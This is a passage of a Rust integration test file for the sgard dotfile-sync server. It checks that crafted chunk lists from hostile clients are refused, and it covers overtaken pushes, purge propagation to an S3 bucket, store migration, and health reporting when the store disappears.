    let push = held_push(&a, ka, &addr, &gate);
    let serving = lb.last();
    signal(&replicas[serving], "-TERM");
    wait_log(&replicas[serving], "shutting down");
    std::fs::write(&gate, "go").unwrap();
    let r = wait_run(push, LIMIT, "sgard push");
    let st = wait_exit(&mut replicas[serving], STOP_LIMIT);
    assert_eq!(st.code(), Some(0), "{}", replicas[serving].log());

    let b = TestEnv::new();
    local(&b, &["init"]).ok();
    trust(&b, ka);
    sg(&b, kb, &["pull", "-r", &addr]).ok();
    if r.code == 0 {
        assert_eq!(entries(&b, &[]), entries(&a, &[]));
    } else {
        assert!(r.stderr.contains("sgard: error:"), "{r:#?}");
        assert_eq!(entries(&b, &[]), before, "a refused push moved the head");
        sg(&a, ka, &["push", "-r", &addr]).ok();
        sg(&b, kb, &["pull", "-r", &addr]).ok();
    }
    assert_eq!(b.read("big2"), a.read("big2"));
    local(&b, &["verify"]).ok();
    drop(replicas);
}

// ------------------------------------------------------- hostile clients

/// Streams `(hash, data, kind)` objects as one PushBlobs call (kind 0 a
/// blob, 1 a chunk list, 2 a chunk).
async fn push_objects(
    c: &mut Raw,
    token: &str,
    objects: Vec<(String, Vec<u8>, u32)>,
) -> Result<i32, tonic::Status> {
    let msgs: Vec<v1::PushBlobsRequest> = objects
        .into_iter()
        .map(|(hash, data, kind)| v1::PushBlobsRequest {
            chunk: Some(v1::BlobChunk { hash, data, kind }),
        })
        .collect();
    tmo(c.push_blobs(authed(tokio_stream::iter(msgs), token)))
        .await
        .map(|r| r.into_inner().blobs_received)
}

/// The text of a chunk list of `size` bytes made of `chunks`.
fn list_text(size: usize, chunks: &[(&str, usize)]) -> String {
    let mut t = format!("sgard-chunks 1\nfastcdc-2020 16384 65536 262144\nsize {size}\n");
    for (h, len) in chunks {
        t.push_str(&format!("{h} {len}\n"));
    }
    t
}

/// A chunk list is taken only when the chunks it names are stored at their
/// lengths and reassemble to the content the list is named by (what a
/// folder store checks). Otherwise that content would count as stored: a
/// head naming it would be installed, and a later push of the real content
/// deduplicated against the list, with nothing anyone can pull.
#[test]
fn a_chunk_list_is_taken_only_when_its_chunks_make_its_content() {
    let m = moto_or_skip!();
    let w = world_or_skip!(1);
    let k = w.key(0);
    let srv = replica(&w, &m, &[]);
    let rt = runtime();
    rt.block_on(async {
        let mut c = connect(&srv.addr).await;
        let token = login(&mut c, k).await;
        let chunk = noise(20_000, 3);
        let chunk_h = sha(&chunk);
        // A list naming a chunk the server does not have.
        let absent = noise(20_000, 4);
        let absent_h = sha(&absent);
        let text = list_text(absent.len(), &[(&absent_h, absent.len())]);
        expect_code(
            push_objects(
                &mut c,
                &token,
                vec![(absent_h.clone(), text.into_bytes(), 1)],
            )
            .await,
            &[Code::FailedPrecondition],
            "a list naming an absent chunk",
        );
        // A stored chunk, in a list named by other content.
        assert_eq!(
            push_objects(&mut c, &token, vec![(chunk_h.clone(), chunk.clone(), 2)])
                .await
                .unwrap(),
            1
        );
        let other = noise(20_000, 5);
        let other_h = sha(&other);
        let text = list_text(chunk.len(), &[(&chunk_h, chunk.len())]);
        expect_code(
            push_objects(
                &mut c,
                &token,
                vec![(other_h.clone(), text.into_bytes(), 1)],
            )
            .await,
            &[Code::DataLoss],
            "a list whose chunks are other content",
        );
        // A list that gives a stored chunk another length.
        let text = list_text(chunk.len() - 1, &[(&chunk_h, chunk.len() - 1)]);
        let short_h = sha(&chunk[..chunk.len() - 1]);
        expect_code(
            push_objects(
                &mut c,
                &token,
                vec![(short_h.clone(), text.into_bytes(), 1)],
            )
            .await,
            &[Code::DataLoss],
            "a list with a wrong chunk length",
        );
        // None of those contents counts as stored.
        for h in [&absent_h, &other_h, &short_h] {
            let neg = push_manifest(
                &mut c,
                &token,
                push_req(vec![file_entry("~/big", h)], "none", true),
            )
            .await
            .unwrap();
            assert_eq!(neg.missing_blobs, vec![h.clone()], "content {h}");
            expect_code(
                push_manifest(
                    &mut c,
                    &token,
                    push_req(vec![file_entry("~/big", h)], "none", false),
                )
                .await,
                &[Code::FailedPrecondition],
                &format!("a head naming content {h} of a refused list"),
            );
        }
        // The true list is taken, and a head naming its content.
        let text = list_text(chunk.len(), &[(&chunk_h, chunk.len())]);
        assert_eq!(
            push_objects(
                &mut c,
                &token,
                vec![(chunk_h.clone(), text.into_bytes(), 1)]
            )
            .await
            .unwrap(),
            1
        );
        let r = push_manifest(
            &mut c,
            &token,
            push_req(vec![file_entry("~/big", &chunk_h)], "none", false),
        )
        .await
        .unwrap();
        assert_eq!(r.decision, Decision::Accepted as i32, "{r:?}");
    });
    drop(srv);
}

/// A Go client's push (no base: its manifest waits in the store for the end
/// of its PushBlobs, perhaps on another replica) that another push overtook
/// in between is refused when its blobs end, not answered as if it had
/// been taken.
#[test]
fn a_go_push_overtaken_before_its_blobs_end_is_refused() {
    let m = moto_or_skip!();
    let w = world_or_skip!(2);
    let (r1, r2) = (replica(&w, &m, &[]), replica(&w, &m, &[]));
    go_push_overtaken(&w, &r1.addr, &r2.addr);
    drop((r1, r2));
}

/// The same on a folder store (one server).
#[test]
fn a_go_push_overtaken_on_a_folder_store_is_refused() {
    let w = world_or_skip!(2);
    let srv = w.serve(&[]);
    go_push_overtaken(&w, &srv.addr, &srv.addr);
    drop(srv);
}

/// A Go client pushes its manifest through `addr1`, another machine's
/// newer push lands, then the Go client's blobs end through `addr2`.
fn go_push_overtaken(w: &World, addr1: &str, addr2: &str) {
    let (k_go, k_other) = (w.key(0), w.key(1));
    let rt = runtime();
    rt.block_on(async {
        let mut go = connect(addr1).await;
        let go_token = login(&mut go, k_go).await;
        let mut other = connect(addr2).await;
        let other_token = login(&mut other, k_other).await;
        let go_blob = b"the Go client's file\n".to_vec();
        let other_blob = b"the other machine's file\n".to_vec();

        // The Go client: its manifest first (accepted: the garden is empty).
        let mut req = push_req(vec![file_entry("~/go", &sha(&go_blob))], "", false);
        req.manifest = Some(manifest_msg(
            vec![file_entry("~/go", &sha(&go_blob))],
            now_secs() + 100,
        ));
        let r = push_manifest(&mut go, &go_token, req).await.unwrap();
        assert_eq!(r.decision, Decision::Accepted as i32, "{r:?}");
        assert_eq!(r.missing_blobs, vec![sha(&go_blob)]);

        // Meanwhile another machine's push, newer, moves the head.
        push_blobs(
            &mut other,
            &other_token,
            vec![(sha(&other_blob), other_blob.clone())],
        )
        .await
        .unwrap();
        let mut req = push_req(
            vec![file_entry("~/other", &sha(&other_blob))],
            "none",
            false,
        );
        req.manifest = Some(manifest_msg(
            vec![file_entry("~/other", &sha(&other_blob))],
            now_secs() + 200,
        ));
        let r = push_manifest(&mut other, &other_token, req).await.unwrap();
        assert_eq!(r.decision, Decision::Accepted as i32, "{r:?}");

        // The Go client's blobs end (through the other replica): its push
        // did not land, and it is told so.
        let mut go2 = connect(addr2).await;
        let st = expect_code(
            push_blobs(&mut go2, &go_token, vec![(sha(&go_blob), go_blob.clone())]).await,
            &[Code::Aborted, Code::FailedPrecondition],
            "the overtaken Go push",
        );
        assert!(st.message().contains("pull"), "{st:?}");
        let head = pull_manifest(&mut go2, &go_token).await.unwrap();
        let paths: Vec<String> = head
            .manifest
            .unwrap()
            .files
            .into_iter()
            .map(|e| e.path)
            .collect();
        assert_eq!(paths, vec!["~/other".to_owned()]);
    });
}

/// A peer that asks for whole blobs (the Go sgard knows no chunk lists)
/// gets chunked content whole, reassembled from its chunks, as a folder
/// store serves it.
#[test]
fn chunked_content_is_served_whole_to_a_peer_that_asks_for_blobs() {
    let m = moto_or_skip!();
    let w = world_or_skip!(1);
    let k = w.key(0);
    let srv = replica(&w, &m, &[]);
    let a = TestEnv::init();
    let big = noise(3 << 20, 21);
    a.write("big.db", &big);
    track(&a, &["big.db"]);
    sg(&a, k, &["push", "-r", &srv.addr]).ok();
    let rt = runtime();
    rt.block_on(async {
        let h = sgard_depot::Hash::parse(&sha(&big)).unwrap();
        let stored = depot(&m)
            .object_size(&Garden::default(), Kind::Blob, &h)
            .await
            .unwrap();
        assert_eq!(stored, None, "the content was not stored chunked");
        let mut c = connect(&srv.addr).await;
        let token = login(&mut c, k).await;
        let got = pull_blobs(&mut c, &token, &[&sha(&big)]).await.unwrap();
        assert_eq!(got.len(), 1);
        assert_eq!(got[0].0, sha(&big));
        assert!(got[0].1 == big, "other bytes than the content");
    });
    drop(srv);
}

/// How many objects of the garden in `m`'s bucket hold `needle`.
fn bucket_holding(m: &MotoServer, needle: &[u8]) -> usize {
    let g = Garden::new("default").unwrap();
    runtime().block_on(async {
        let d = depot(m);
        let mut n = 0;
        for kind in [Kind::Blob, Kind::ChunkList, Kind::Chunk] {
            for (h, _, _) in d.list_objects_aged(&g, kind).await.unwrap() {
                let b = d.get_object_within(&g, kind, &h, 1 << 30).await.unwrap();
                if b.windows(needle.len()).any(|w| w == needle) {
                    n += 1;
                }
            }
        }
        n
    })
}

/// The purge story on S3: the push carrying the purge leaves no object of
/// the bucket holding the secret; a machine that has not pulled it cannot
/// push the old snapshots back, and its pull applies it.
#[test]
fn a_purge_reaches_the_bucket_of_a_replica() {
    let m = moto_or_skip!();
    let w = world_or_skip!(2);
    let (ka, kb) = (w.key(0), w.key(1));
    let srv = replica(&w, &m, &[]);
    let addr = srv.addr.clone();
    let leak = "password LEAKED-TO-S3\n";
    let mut a = TestEnv::init();
    a.write(".vimrc", "set one\n");
    a.write(".netrc", leak);
    local(&a, &["add", "--plaintext", ".vimrc", ".netrc"]).ok();
    local(&a, &["checkpoint"]).ok();
    a.now = now_plus(5);
    a.write(".netrc", "password safe-now\n");
    local(&a, &["checkpoint"]).ok();
    sg(&a, ka, &["push", "-r", &addr]).ok();
    let mut b = TestEnv::new();
    sg(&b, kb, &["pull", "-r", &addr]).ok();
    trust(&b, kb);
    assert!(bucket_holding(&m, b"LEAKED-TO-S3") > 0);

    a.now = now_plus(10);
    local(&a, &["purge", "--keep-current", "-y", "~/.netrc"]).ok();
    sg(&a, ka, &["push", "-r", &addr]).ok();
    assert_eq!(bucket_holding(&m, b"LEAKED-TO-S3"), 0);
    sg(&a, ka, &["push", "-r", &addr])
        .ok()
        .stdout_has("Already up to date.");

    change(&mut b, ".vimrc", "set two\n", 12);
    sg(&b, kb, &["push", "-r", &addr])
        .code(4)
        .stderr_has("sgard pull");
    sg(&b, kb, &["pull", "-r", &addr])
        .ok()
        .stdout_has("Applied the purge made on");
    sg(&b, kb, &["push", "-r", &addr]).ok();
    assert_eq!(bucket_holding(&m, b"LEAKED-TO-S3"), 0);
    local(&b, &["verify"]).ok();
    trust(&a, kb);
    sg(&a, ka, &["pull", "-r", &addr]).ok();
    assert_eq!(a.read(".vimrc"), b"set two\n");
    local(&a, &["verify"]).ok();
    drop(srv);
}

/// `sgardd migrate` carries the purge log: after a folder server that
/// applied a purge moves onto S3, a machine that has not pulled the purge
/// still cannot push the old snapshots back, and its pull applies it; and
/// back into a folder, the log is there.
#[test]
fn migrate_carries_a_gardens_purges() {
    let m = moto_or_skip!();
    let w = world_or_skip!(2);
    let (ka, kb) = (w.key(0), w.key(1));
    let dir_store = w.srv_repo();
    let srv = serve_at(&w, &m, &dir_store, 0);
    let (port, addr) = (srv.port, srv.addr.clone());
    let mut a = TestEnv::init();
    a.write(".netrc", "password LEAKED-BEFORE-MOVE\n");
    local(&a, &["add", "--plaintext", ".netrc"]).ok();
    local(&a, &["checkpoint"]).ok();
    a.now = now_plus(5);
    a.write(".netrc", "password safe-now\n");
    local(&a, &["checkpoint"]).ok();
    sg(&a, ka, &["push", "-r", &addr]).ok();
    let mut b = TestEnv::new();
    sg(&b, kb, &["pull", "-r", &addr]).ok();
    trust(&b, kb);
    a.now = now_plus(10);
    local(&a, &["purge", "--keep-current", "-y", "~/.netrc"]).ok();
    sg(&a, ka, &["push", "-r", &addr]).ok();
    drop(srv);

    sgardd_run(
        &w,
        &m,
        &[
            "migrate",
            "--from",
            dir_store.to_str().unwrap(),
            "--to",
            STORE,
        ],
    )
    .ok();
    assert_eq!(bucket_holding(&m, b"LEAKED-BEFORE-MOVE"), 0);
    let srv = serve_at(&w, &m, Path::new(STORE), port);
    change(&mut b, ".netrc", "password newer\n", 12);
    sg(&b, kb, &["push", "-r", &addr])
        .code(4)
        .stderr_has("sgard pull");
    sg(&b, kb, &["pull", "-r", &addr])
        .ok()
        .stdout_has("Applied the purge made on");
    sg(&b, kb, &["push", "-r", &addr]).ok();
    assert_eq!(bucket_holding(&m, b"LEAKED-BEFORE-MOVE"), 0);
    drop(srv);

    let back = w.root().join("back");
    sgardd_run(
        &w,
        &m,
        &["migrate", "--from", STORE, "--to", back.to_str().unwrap()],
    )
    .ok();
    let log = std::fs::read_to_string(back.join("default").join("purges.yaml"))
        .or_else(|_| std::fs::read_to_string(back.join("purges.yaml")))
        .unwrap();
    assert!(log.contains("~/.netrc"), "{log}");
    local(
        &TestEnv::new(),
        &["verify", "--repo", back.to_str().unwrap()],
    )
    .ok();
}

/// Issue 39, defect 2, on a replica over S3.
#[test]
fn a_machine_alternating_between_two_replicas_is_never_falsely_behind() {
    let m = moto_or_skip!();
    let w = world_or_skip!(2);
    let (r1, r2) = (replica(&w, &m, &[]), replica(&w, &m, &[]));
    assert_ne!(r1.addr, r2.addr);
    alternating_addresses_are_one_garden(w.key(0), w.key(1), &r1.addr, &r2.addr);
}

/// Issue 39, defect 1, on a replica over S3.
#[test]
fn a_refused_push_leaves_no_false_conflict_on_s3() {
    let m = moto_or_skip!();
    let w = world_or_skip!(1);
    let r = replica(&w, &m, &["--max-file-size", "5000000"]);
    a_refused_push_leaves_no_false_conflict(w.key(0), &r.addr, false);
}

/// Issue 39, item 6, on a replica over S3: `--max-file-size` bounds a file
/// sent in chunks as it does a whole one.
#[test]
fn a_chunked_file_over_the_limit_is_refused_on_s3() {
    let m = moto_or_skip!();
    let w = world_or_skip!(1);
    let r = replica(&w, &m, &["--max-file-size", "5000000"]);
    a_refused_push_leaves_no_false_conflict(w.key(0), &r.addr, true);
}

/// The status of `""` and `sgard.v1.GardenSync` on the gRPC health
/// service at `addr`.
fn health_of(addr: &str) -> [tonic_health::pb::health_check_response::ServingStatus; 2] {
    use tonic_health::pb::HealthCheckRequest;
    use tonic_health::pb::health_client::HealthClient;
    runtime().block_on(async {
        let ch = tmo(
            tonic::transport::Channel::from_shared(format!("http://{addr}"))
                .unwrap()
                .connect(),
        )
        .await
        .unwrap();
        let mut h = HealthClient::new(ch);
        let mut out = [tonic_health::pb::health_check_response::ServingStatus::Unknown; 2];
        for (slot, service) in out.iter_mut().zip(["", "sgard.v1.GardenSync"]) {
            *slot = tmo(h.check(HealthCheckRequest {
                service: service.into(),
            }))
            .await
            .unwrap()
            .into_inner()
            .status();
        }
        out
    })
}

/// Waits (at most [`LIMIT`]) until the gRPC health of `srv` says
/// `serving` for both its services.
#[track_caller]
fn wait_health(srv: &Server, serving: bool) {
    use tonic_health::pb::health_check_response::ServingStatus;
    let want = if serving {
        ServingStatus::Serving
    } else {
        ServingStatus::NotServing
    };
    let t0 = std::time::Instant::now();
    loop {
        let got = health_of(&srv.addr);
        if got == [want; 2] {
            return;
        }
        assert!(
            t0.elapsed() < LIMIT,
            "health stayed {got:?}, not {want:?}; the log: {}",
            srv.log()
        );
        thread::sleep(Duration::from_millis(50));
    }
}

/// `GET path` on the metrics listener of `srv`: (status code, body).
fn metrics_get(srv: &Server, path: &str) -> (u16, String) {
    use std::io::{Read, Write};
    let addr = srv
        .banner
        .lines()
        .find_map(|l| l.strip_prefix("sgardd metrics on http://"))
        .and_then(|rest| rest.strip_suffix("/metrics"))
        .unwrap_or_else(|| panic!("no metrics address in {:?}", srv.banner));
    let mut s = TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(LIMIT)).unwrap();
    write!(
        s,
        "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\r\n"
    )
    .unwrap();
    let mut out = String::new();
    s.read_to_string(&mut out).unwrap();
    let (head, body) = out.split_once("\r\n\r\n").unwrap();
    let code = head.split_whitespace().nth(1).unwrap().parse().unwrap();
    (code, body.to_owned())
}

/// What a machine's repository says of itself (untouched by a failed
/// sync): its status, its entries, its manifest.
fn snapshot_of(t: &TestEnv) -> (String, Vec<(String, String)>, String) {
    let status = local(t, &["status"]);
    status.ok();
    (status.stdout.clone(), entries(t, &[]), t.manifest())
}

/// Issue 39, item 8: the bucket deleted under a running replica (a store
/// reset). Its health turns `NOT_SERVING` (gRPC and `/readyz`, which
/// names the cause; `sgardd_store_up` 0), logged once at WARN; a pull and
/// a push say the bucket is missing (exit 1, naming it), never an empty
/// garden or a conflict, and change nothing on the machine. The bucket
/// made again: `SERVING` again, logged at INFO. Once a shutdown began,
/// the store coming back does not turn it `SERVING`.
#[test]
fn a_bucket_deleted_under_a_replica_is_named_and_turns_it_not_serving() {
    use tonic_health::pb::health_check_response::ServingStatus;
    let m = moto_or_skip!();
    let w = world_or_skip!(1);
    let srv = replica(
        &w,
        &m,
        &[
            "--metrics",
            "127.0.0.1:0",
            "--store-check-interval",
            "0.2",
            "--shutdown-delay",
            "300",
        ],
    );
    let addr = srv.addr.as_str();
    let ka = w.key(0);
    let a = TestEnv::init();
    a.write(".bashrc", "export A=1\n");
    track(&a, &[".bashrc"]);
    sg(&a, ka, &["push", "-r", addr]).ok();
    wait_health(&srv, true);
    assert_eq!(metrics_get(&srv, "/readyz"), (200, "SERVING\n".to_owned()));

    m.reset().unwrap();
    wait_health(&srv, false);
    let (code, body) = metrics_get(&srv, "/readyz");
    assert_eq!(code, 503, "{body}");
    assert!(body.starts_with("NOT_SERVING\n"), "{body}");
    assert!(
        body.contains(&format!("bucket {BUCKET} does not exist")),
        "{body}"
    );
    let (_, metrics) = metrics_get(&srv, "/metrics");
    assert!(metrics.contains("\nsgardd_store_up 0\n"), "{metrics}");
    let log = wait_log(&srv, "health NOT_SERVING until it answers again");
    assert!(log.contains(" WARN "), "{log}");

    // A pull: the bucket is named, not an empty garden; nothing changes.
    let before = snapshot_of(&a);
    let missing = format!("the object store's bucket {BUCKET} does not exist");
    sg(&a, ka, &["pull", "-r", addr])
        .code(1)
        .stderr_has(&missing);
    assert_eq!(snapshot_of(&a), before);
    assert_eq!(a.read(".bashrc"), b"export A=1\n");
    // A push of a change: the same, and no conflict.
    a.write(".bashrc", "export A=2\n");
    local(&a, &["checkpoint"]).ok();
    let before = snapshot_of(&a);
    let r = sg(&a, ka, &["push", "-r", addr]);
    r.code(1).stderr_has(&missing);
    assert!(!r.stderr.contains("pull first"), "{r:#?}");
    assert!(!r.stderr.contains("has changes"), "{r:#?}");
    assert_eq!(snapshot_of(&a), before);
    // A fresh machine's pull: not an empty garden either.
    let b = TestEnv::new();
    sg(&b, ka, &["pull", "-r", addr])
        .code(1)
        .stderr_has(&missing);

    m.create_bucket(BUCKET).unwrap();
    wait_health(&srv, true);
    assert_eq!(metrics_get(&srv, "/readyz"), (200, "SERVING\n".to_owned()));
    let (_, metrics) = metrics_get(&srv, "/metrics");
    assert!(metrics.contains("\nsgardd_store_up 1\n"), "{metrics}");
    let log = wait_log(&srv, "the store answers again: health SERVING");
    assert_eq!(
        log.matches("health NOT_SERVING until it answers again")
            .count(),
        1,
        "{log}"
    );

    // Shutting down: the store coming back does not undo NOT_SERVING.
    signal(&srv, "-TERM");
    wait_log(&srv, "shutting down: health NOT_SERVING");
    wait_health(&srv, false);
    m.reset().unwrap();
    wait_log_count(&srv, "health NOT_SERVING until it answers again", 2);
    m.create_bucket(BUCKET).unwrap();
    wait_log_count(&srv, "the store answers again: health SERVING", 2);
    assert_eq!(health_of(&srv.addr), [ServingStatus::NotServing; 2]);
    let (code, body) = metrics_get(&srv, "/readyz");
    assert_eq!((code, body.as_str()), (503, "NOT_SERVING\n"));
    signal(&srv, "-INT");
    let mut srv = srv;
    let st = wait_exit(&mut srv, STOP_LIMIT);
    assert_eq!(st.code(), Some(0), "{}", srv.log());
}

/// Waits (at most [`LIMIT`]) until the log of `srv` holds `what` `n`
/// times.
#[track_caller]
fn wait_log_count(srv: &Server, what: &str, n: usize) {
    let t0 = std::time::Instant::now();
    loop {
        let log = srv.log();
        if log.matches(what).count() >= n {
            return;
        }
        assert!(
            t0.elapsed() < LIMIT,
            "the server never logged {what:?} {n} times; its log: {log}"
        );
        thread::sleep(Duration::from_millis(20));
    }
}

/// The store stopped under a replica: `NOT_SERVING`, with the cause in
/// the log; a bad `--store-check-interval` is a usage error.
#[test]
fn a_stopped_store_turns_a_replica_not_serving_with_the_cause_logged() {
    let m = moto_or_skip!();
    let w = world_or_skip!(1);
    let args = w.serve_args(0, &[]);
    let mut bad: Vec<&str> = args.iter().map(|a| a.to_str().unwrap()).collect();
    bad.extend(["--store", STORE, "--store-check-interval", "0.01"]);
    let r = sgardd_run(&w, &m, &bad);
    assert_eq!(r.code, 2, "{r:#?}");
    assert!(r.stderr.contains("--store-check-interval"), "{r:#?}");

    let srv = replica(&w, &m, &["--store-check-interval", "0.2"]);
    wait_health(&srv, true);
    drop(m);
    wait_health(&srv, false);
    let log = wait_log(&srv, "health NOT_SERVING until it answers again");
    let line = log
        .lines()
        .find(|l| l.contains("health NOT_SERVING until it answers again"))
        .unwrap();
    assert!(line.contains(" WARN "), "{line}");
    assert!(
        line.to_lowercase().contains("connection refused"),
        "no cause in {line:?}"
    );
    assert!(line.contains("s3://sgard-team/gardens"), "{line}");
}

/// The folder store's twin: its repository unreadable (here, its manifest
/// moved away, as an unmounted volume would leave it) turns health
/// `NOT_SERVING`, the file named in the log; back in place, `SERVING`.
#[test]
fn a_folder_store_gone_from_under_sgardd_turns_it_not_serving() {
    let w = world_or_skip!(1);
    let srv = w.serve(&["--store-check-interval", "0.2"]);
    wait_health(&srv, true);
    let manifest = w.srv_repo().join("manifest.yaml");
    let aside = w.srv_repo().join("manifest.yaml.aside");
    std::fs::rename(&manifest, &aside).unwrap();
    wait_health(&srv, false);
    let log = wait_log(&srv, "health NOT_SERVING until it answers again");
    assert!(log.contains(&manifest.display().to_string()), "{log}");
    std::fs::rename(&aside, &manifest).unwrap();
    wait_health(&srv, true);
    wait_log(&srv, "the store answers again: health SERVING");
}
